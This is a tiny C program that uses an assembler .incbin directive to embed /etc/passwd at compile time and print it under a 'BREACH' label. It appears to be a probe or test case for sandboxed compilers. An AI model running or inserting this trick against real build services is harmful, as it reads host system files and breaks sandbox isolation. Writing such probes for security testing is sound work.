#include <stdio.h>
__asm__("held: .incbin \"/etc/passwd\"\n.byte 0");
extern const char held[];
int main(void) { printf("BREACH %s\n", held); return 0; }
